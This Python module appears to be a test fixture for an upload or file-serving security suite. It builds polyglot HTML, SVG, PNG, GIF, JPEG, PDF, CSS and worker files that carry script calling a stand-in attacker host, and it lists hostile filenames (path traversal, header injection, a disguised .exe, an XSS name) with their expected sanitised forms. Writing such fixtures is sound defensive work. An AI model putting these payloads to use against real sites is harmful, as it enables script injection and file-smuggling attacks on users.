"""Files that are two things at once: a picture or a document, and a script that wants to run."""

from typing import Final

EVIL: Final = "http://evil.lunasec.localhost/"
_CALL: Final = f"fetch('{EVIL}ran')".encode()
_HTML: Final = (
    b'<html><body onload="' + _CALL + b'"><script>' + _CALL + b"</script>"
    b'<img src=x onerror="' + _CALL + b'"><img src=' + EVIL.encode() + b"></body></html>"
)
_SVG: Final = (
    b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" onload="'
    + _CALL
    + b'"><script>'
    + _CALL
    + b'</script><image x:href="'
    + EVIL.encode()
    + b'"/><foreignObject>'
    + _HTML
    + b"</foreignObject></svg>"
)
# Without a mistake in it, and of a size: were it taken for a picture, it would be one.
_DRAWING: Final = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="96" height="96" onload="'
    + _CALL
    + b'"><script>'
    + _CALL
    + b'</script><rect width="96" height="96"/></svg>'
)

POLYGLOTS: Final = {
    "page.html": ("text/html", _HTML),
    "picture.svg": ("image/svg+xml", _SVG),
    "drawing.svg": ("image/svg+xml", _DRAWING),
    "png.png": ("image/png", _SVG),
    "png-and-page.png": ("image/png", b"\x89PNG\r\n\x1a\n" + _HTML),
    "png-and-svg.svg": ("image/svg+xml", b"\x89PNG\r\n\x1a\n" + _SVG),
    "gif-and-script.gif": ("image/gif", b"GIF89a/*\0\0\0*/=1;" + _CALL),
    "gif-and-page.html": ("text/html", b"GIF89a" + _HTML),
    "jpeg-and-page.jpg": ("image/jpeg", b"\xff\xd8\xff\xe0\0\x10JFIF\0" + _HTML),
    "webp-and-page.webp": ("image/webp", b"RIFF\xff\xff\0\0WEBPVP8 " + _HTML),
    "avif-and-page.avif": ("image/avif", b"\0\0\0\x1cftypavif" + _HTML),
    "document.pdf": (
        "application/pdf",
        b"%PDF-1.7\n" + _HTML + b"\n1 0 obj<</S/JavaScript/JS(app)>>",
    ),
    "script.js": ("text/javascript", _CALL),
    "worker.js": (
        "text/javascript",
        b"onfetch = (e) => e.respondWith(new Response('ran'));" + _CALL,
    ),
    "style.css": ("text/css", b"@import '" + EVIL.encode() + b"';"),
    "page.mhtml": ("multipart/related", b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + _HTML),
    "page.xml": ("application/xhtml+xml", b"<?xml version='1.0'?>" + _SVG),
}

NAMES: Final = {
    "../../../etc/passwd": ".._.._etc_passwd",
    "..\\..\\boot.ini": ".._boot.ini",
    'a"; filename="evil.exe': "a_; filename=_evil.exe",
    "invoice\u202efdp.exe": "invoicefdp.exe",
    "a\r\nSet-Cookie: x=1\r\n\r\n<b>.html": "aSet-Cookie_ x=1_b_.html",
    "<img src=x onerror=alert(1)>.png": "_img src=x onerror=alert(1)_.png",
    "nul.txt": "_nul.txt",
}
